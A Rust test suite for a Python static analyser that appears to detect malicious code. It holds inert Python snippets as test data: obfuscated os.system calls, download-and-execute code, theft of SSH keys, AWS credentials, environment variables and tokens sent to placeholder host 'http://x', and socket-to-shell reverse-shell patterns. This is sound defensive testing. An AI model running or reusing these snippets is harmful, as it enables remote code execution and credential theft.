//! What the analysis must see, and what it must leave alone.

use super::analysis::analyse;
use super::{FlowKind, PythonFacts, Runs};
use crate::notes::Notes;
use wb_core::Meter;

fn references(source: &str) -> Vec<String> {
    let mut facts = PythonFacts::default();
    let mut notes = Notes::default();
    analyse(source, 0, &[], &Meter::unlimited_time(), &mut notes, &mut facts).unwrap();
    facts
        .references
        .iter()
        .map(|r| {
            if r.is_call {
                format!("{}()", r.path)
            } else {
                r.path.clone()
            }
        })
        .collect()
}

fn calls_os_system(source: &str) {
    let found = references(source);
    assert!(
        found.iter().any(|r| r == "os.system()"),
        "tokens: {source}: {found:?}"
    );
    tree_calls_os_system(source);
}

fn tree(source: &str) -> PythonFacts {
    let mut facts = PythonFacts::default();
    super::tree::analyse(source, 0, &Meter::unlimited_time(), &mut facts).unwrap();
    facts
}

fn tree_calls_os_system(source: &str) {
    let found = tree(source).references;
    let calls = found.iter().any(|r| r.path == "os.system" && r.is_call);
    assert!(calls, "tree: {source}: {found:#?}");
}

#[test]
fn constants_are_computed() {
    for source in [
        "import os\ngetattr(os, '%s%s' % ('sys', 'tem'))('id')",
        "import os\ngetattr(os, 'sys{}'.format('tem'))('id')",
        "import os\na = 'tem'\ngetattr(os, f'sys{a}')('id')",
        "import os\ngetattr(os, ''.join(chr(c) for c in [115,121,115,116,101,109]))('id')",
        "import os\ngetattr(os, ''.join(map(chr, [115,121,115,116,101,109])))('id')",
        "import os\ngetattr(os, ''.join([chr(c ^ 1) for c in b'rxrudl']))('id')",
        "import os, base64\ngetattr(os, base64.b64decode('c3lzdGVt').decode())('id')",
        "import os, codecs\ngetattr(os, codecs.decode('flfgrz', 'rot13'))('id')",
        "import os\ngetattr(os, bytes.fromhex('73797374656d').decode())('id')",
        "import base64\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik='))",
        "exec(compile('import os; os.system(\"id\")', 'x', 'exec'))",
        "_ = lambda __ : __import__('base64').b64decode(__[::-1])\nexec((_)(b'=kiIkJiIo0WZ0NXez5ybgsTLvBCdy9GctlWa'[0:0] or 'x'))\nimport os\nos.system('id')",
        "d = lambda s: __import__('base64').b64decode(s[::-1])\nexec(d('=kiIklmIo0WZ0NXez5ybgszcvBCdy9GctlGIKInbl5WY'[-36:]))\nimport os\nos.system('1')",
        "class A:\n  x = __import__('os')\n  def f(self):\n    self.x.system('id')",
        "from os import *\nsystem('id')\nimport os\nos.system('id')",
        "globals()['__builtins__'].__import__('os').system('id')",
        "(lambda m: m.system('id'))(__import__('os'))",
        "import os\ndef run(m):\n  m.system('id')\nrun(os)",
        "import os\nclass R:\n  def __reduce__(self):\n    return (os.system, ('id',))\nos.system('')",
    ] {
        tree_calls_os_system(source);
    }
}

#[test]
fn the_tree_says_when_code_runs() {
    let runs = |source: &str| {
        let facts = tree(source);
        let found = facts
            .references
            .iter()
            .find(|r| r.path == "os.system" && r.is_call);
        found.map(|r| r.runs)
    };
    assert_eq!(runs("import os\nos.system('')"), Some(Runs::Import));
    assert_eq!(runs("import os\nclass A:\n  os.system('')"), Some(Runs::Import));
    assert_eq!(
        runs("import os\ndef f(x=os.system('')): pass"),
        Some(Runs::Import)
    );
    assert_eq!(runs("import os\ndef f(): os.system('')\nf()"), Some(Runs::Import));
    assert_eq!(
        runs("import os\ndef f(): os.system('')\ndef g(): f()\nclass A:\n  g()"),
        Some(Runs::Import)
    );
    assert_eq!(
        runs("import os\nclass A:\n  def __init__(self): self.go()\n  def go(self): os.system('')"),
        Some(Runs::Construct)
    );
    assert_eq!(
        runs("import os\nclass A:\n  def __init__(self): self.go()\n  def go(self): os.system('')\nA()"),
        Some(Runs::Import)
    );
    assert_eq!(
        runs("import os\nclass A:\n  def forward(self): os.system('')"),
        Some(Runs::Use)
    );
    assert_eq!(
        runs("import os\ndef helper(): os.system('')"),
        Some(Runs::Unknown)
    );
    assert_eq!(
        runs("import os, atexit\n@atexit.register\ndef f(): os.system('')"),
        Some(Runs::Import)
    );
    assert_eq!(
        runs("import os, threading\ndef f(): os.system('')\nthreading.Thread(target=f).start()"),
        Some(Runs::Import)
    );
    assert_eq!(
        runs("import os\nclass M(type):\n  def __new__(c, *a): os.system('')\nclass A(metaclass=M): pass"),
        Some(Runs::Import)
    );
}

#[test]
fn data_is_followed() {
    let flows = |source: &str| {
        tree(source)
            .flows
            .iter()
            .map(|flow| flow.kind)
            .collect::<Vec<_>>()
    };
    for (source, kind) in [
        (
            "import requests\nexec(requests.get('http://x').text)",
            FlowKind::NetworkToExecution,
        ),
        (
            "import urllib.request as u\ncode = u.urlopen('http://x').read().decode()\nexec(code)",
            FlowKind::NetworkToExecution,
        ),
        (
            "import requests\ndef get():\n  return requests.get('http://x').content\ndef run():\n  exec(compile(get(), 'a', 'exec'))",
            FlowKind::NetworkToExecution,
        ),
        (
            "import urllib.request, os\nurllib.request.urlretrieve('http://x', '/tmp/pay')\nos.system('/tmp/pay')",
            FlowKind::NetworkToExecution,
        ),
        (
            "import requests, subprocess\nwith open('/tmp/x.py', 'wb') as f:\n  f.write(requests.get('http://x').content)\nsubprocess.Popen(['python', '/tmp/x.py'])",
            FlowKind::NetworkToExecution,
        ),
        (
            "import base64\nexec(base64.b64decode(blob))",
            FlowKind::DecodedToExecution,
        ),
        (
            "import zlib, base64, marshal\nexec(marshal.loads(zlib.decompress(base64.b64decode(b'x'))))",
            FlowKind::DecodedToExecution,
        ),
        (
            "import requests, os\nrequests.post('http://x', json=dict(os.environ))",
            FlowKind::SecretToNetwork,
        ),
        (
            "import requests, os\nk = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post('http://x', data=k)",
            FlowKind::SecretToNetwork,
        ),
        (
            "import requests\nfrom pathlib import Path\nk = (Path.home() / '.aws' / 'credentials').read_text()\nrequests.post('http://x', data={'k': k})",
            FlowKind::SecretToNetwork,
        ),
        (
            "import urllib.request, json, os\nd = json.dumps(dict(os.environ)).encode()\nr = urllib.request.Request('http://x', data=d)\nurllib.request.urlopen(r)",
            FlowKind::SecretToNetwork,
        ),
        (
            "import os, requests\nrequests.get('http://x/?t=' + os.environ['HF_TOKEN'])",
            FlowKind::TokenToNetwork,
        ),
        (
            "import socket, os\ns = socket.socket()\ns.connect(('h', 1))\nos.dup2(s.fileno(), 0)",
            FlowKind::ConnectionToProgram,
        ),
        (
            "import socket, subprocess\ns = socket.socket()\nsubprocess.Popen(['sh'], stdin=s, stdout=s)",
            FlowKind::ConnectionToProgram,
        ),
        (
            "import socket, os\ns = socket.socket()\nwhile True:\n  os.popen(s.recv(1024).decode())",
            FlowKind::NetworkToExecution,
        ),
    ] {
        assert!(flows(source).contains(&kind), "{source}: {:#?}", tree(source));
    }
}

#[test]
fn honest_data_is_left_alone() {
    let flows = |source: &str| {
        tree(source)
            .flows
            .iter()
            .map(|flow| flow.kind)
            .collect::<Vec<_>>()
    };
    for source in [
        "import requests, os\nrequests.get('http://x', headers={'Authorization': os.environ['TOKEN']})",
        "import subprocess, os\nsubprocess.run(['ls'], env=dict(os.environ))",
        "import socket, subprocess\ns = socket.socket()\ns.bind(('', 0))\nport = s.getsockname()[1]\nsubprocess.Popen(['srv', str(port)])",
        "import json, requests\nx = json.loads(requests.get('http://x').text)\nprint(x)",
        "import base64\nkey = base64.b64decode('aaaa')\nprint(key)",
        "import os, urllib.request\nurllib.request.urlopen('http://x')\nos.system('ls')",
        "import os, requests\nrequests.get(os.environ.get('SERVICE_ADDRESS', 'http://x'))",
        "import types\nf = types.FunctionType(code, {})\nf()",
    ] {
        assert_eq!(flows(source), [], "{source}");
    }
}

#[test]
fn hostile_nesting_ends() {
    for source in [
        "(".repeat(100_000),
        format!("x = {}1", "not ".repeat(50_000)),
        format!("x = {}1", "-".repeat(50_000)),
        format!("x = {}y", "lambda: ".repeat(50_000)),
        format!("x = 1{}", ".a".repeat(50_000)),
        format!("x = 1{}", "()".repeat(50_000)),
        format!("x = a{}", " if a else a".repeat(50_000)),
        (0..2_000)
            .map(|n| format!("{}if x:\n", " ".repeat(n)))
            .collect::<String>(),
        format!("x = {}", "[".repeat(900)),
        format!("x = 1{}", " + 1".repeat(1_500)),
        format!("x = {}a{}", "f(".repeat(400), ")".repeat(400)),
        "f'{".repeat(5_000),
    ] {
        tree(&source);
    }
}

#[test]
fn names_are_followed() {
    for source in [
        "import os; os.system('id')",
        "import os as o\no.system('id')",
        "from os import system\nsystem('id')",
        "from os import (path, system as s)\ns ('id')",
        "import os.path\nos.system('id')",
        "import os\nf = os.system\nf('id')",
        "import os\nf: object = os.system\nf('id')",
        "import os\na, b = 1, os.system\nb('id')",
        "import os\nclass A:\n  def __init__(self):\n    self.run = os.system\n    self.run('id')",
        "__import__('os').system('id')",
        "__import__('o' + 's').system('id')",
        "import importlib as i\ni.import_module('os').system('id')",
        "import os\ngetattr(os, 'sys' + 'tem')('id')",
        "import os\ngetattr(os, 'sys' 'tem')('id')",
        "import os\ngetattr(os, ''.join(['sys', 'tem']))('id')",
        "import os\ngetattr(os, 'metsys'[::-1])('id')",
        "import os\nn = 'system'\ngetattr(os, n)('id')",
        "import os\nos.__dict__['system']('id')",
        "import os\nvars(os)['system']('id')",
        "import sys\nsys.modules['os'].system('id')",
        "__builtins__.__import__('os').system('id')",
        "import os\nprint(f'{os.system(\"id\")}')",
        "import os\nx = [y for y in (os.system('id'),)]",
        "import os\nif (f := os.system): f('id')",
        "if True: import os\nos.system('id')",
        "try: import os\nexcept ImportError: pass\nos.system('id')",
        "import os\n@os.system('id')\ndef f(): pass",
        "import os\nlambda x: os.system(x)",
        "import os\nreturn os.system('id')",
        "import 𝐨𝐬\n𝐨𝐬.system('id')",
        "import os\ngetattr(os, chr(115) + 'ystem')('id')",
        "import os\nglobals()['os'].system('id')",
        "import os\nclass A:\n  async def f(self): os.system('id')",
    ] {
        calls_os_system(source);
    }
}

#[test]
fn what_only_looks_like_it_is_left_alone() {
    for source in [
        "model.eval()",
        "'os.system(1)'",
        "# os.system(1)",
        "re.compile('x')",
        "def eval(model): pass\neval(net)",
        "from x import eval\neval(net)",
        "class A:\n  def eval(self, compile, exec=None):\n    pass",
        "train(eval=True, compile=False)",
        "def f(x, eval=False, *, exec):\n  return exec(x) if eval else 1",
        "\"\"\"\nimport os\nos.system('x')\n\"\"\"",
    ] {
        let found = references(source);
        assert!(
            !found
                .iter()
                .any(|r| r == "os.system()" || r.starts_with("builtins.")),
            "{source}: {found:?}"
        );
    }
}

#[test]
fn builtins_mentions_and_modules_as_values_are_kept() {
    assert_eq!(references("exec('x')"), ["builtins.exec()"]);
    assert_eq!(
        references("import os\nmap(os.system, ['id'])"),
        ["os.system", "map()"]
    );
    assert_eq!(references("def f(eval): pass\neval(x)"), ["builtins.eval()"]);
    assert_eq!(references("map(eval, x)"), ["builtins.eval", "map()"]);
    assert_eq!(
        references("from os import system as s\nmap(s, x)"),
        ["os.system", "map()"]
    );
    assert_eq!(references("import os\nf(os)"), ["f()", "os"]);
    assert_eq!(references("from os import *\nsystem('id')")[0], "os.system");
    assert_eq!(references("__import__(x)"), ["builtins.__import__?()"]);
}

#[test]
fn depth_and_growth_are_bounded() {
    let deep = format!("{}os.system(1){}", "(".repeat(100_000), ")".repeat(100_000));
    assert!(references(&deep).iter().any(|r| r == "os.system"));
    calls_os_system(&format!("{}os.system(1){}", "(".repeat(90), ")".repeat(90)));
    let mut growing = String::from("x = y\n");
    growing.push_str(&"x = x.a()\n".repeat(10_000));
    assert!(references(&growing).len() < 200);
    references(&"f(".repeat(50_000));
    references(&format!("x = ['a']\n{}", "x = [x, x]\n".repeat(10_000)));
}
